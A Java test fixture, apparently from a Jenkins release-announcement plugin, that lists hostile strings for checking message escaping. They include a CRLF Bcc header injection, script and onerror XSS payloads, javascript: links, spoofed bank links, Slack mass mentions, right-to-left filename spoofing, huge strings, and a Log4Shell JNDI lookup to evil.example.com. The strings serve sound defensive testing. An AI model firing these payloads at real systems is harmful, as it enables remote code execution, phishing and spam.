package io.jenkins.plugins.releasechecklist.engine.announce;

import java.net.URI;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;

/** Texts that somebody would write to make a message say or do something else. */
public final class Hostile {

    /** Turns the reading direction around. */
    public static final String RIGHT_TO_LEFT = "\u202E";

    static final List<String> TEXTS = List.of(
            "x\r\nBcc: all@example.com\r\n\r\n<script>alert(1)</script>",
            "<!channel> <!here> <!everyone> <@U024BE7LH> <#C024BE7LR|general> @channel @here",
            "[click](javascript:alert(1)) ![image](https://evil.example.com/pixel.png)",
            "<https://evil.example.com|https://bank.example.com>",
            "](https://evil.example.com) [a `](https://evil.example.com)` b] **(https://evil.example.com)**",
            "<img src=x onerror=alert(1)> <a href=\"https://evil.example.com\">x</a> <at>Everybody</at> &lt;!here&gt;",
            RIGHT_TO_LEFT + "gnp.exe \u200Bhidden\u0000 \u0007",
            "🚀".repeat(200) + " é ا ש",
            "```\n<!channel>\n](https://evil.example.com)\n```",
            "> quoted <!here>\n\n1. [one](https://evil.example.com)\n\n# <@U024BE7LH>",
            "&".repeat(5000),
            "wide ".repeat(20_000),
            "x".repeat(100_000),
            "*_[`<".repeat(20_000),
            "> ".repeat(3000) + "deep",
            "%s%n ${jndi:ldap://evil.example.com/a} {{7*7}} \\n \\\\ |");

    private Hostile() {}

    /** Every text in every field that can hold it. */
    static Stream<Message> messages() {
        return TEXTS.stream().flatMap(text -> {
            String line = text.replaceAll("[\\r\\n]+", " ");
            return Stream.of(
                    message("Shop", "2.4.0", "minor", "RELEASED", "production", "Shop 2.4.0", text, "Checklist"),
                    message(text, text, text, text, text, line, text, text));
        });
    }

    private static Message message(
            String application,
            String version,
            String type,
            String status,
            String environment,
            String title,
            String markdown,
            String link) {
        return new Message(
                MessageEvent.RELEASE_ANNOUNCED,
                Messages.NOON,
                application,
                version,
                type,
                status,
                Optional.of(environment),
                "stakeholders",
                title,
                markdown,
                "<p>fragment</p>",
                Stream.generate(() -> new Link(link, URI.create("https://ci.example.com/job/shop/7/?a=1&b=2")))
                        .limit(20)
                        .toList());
    }
}
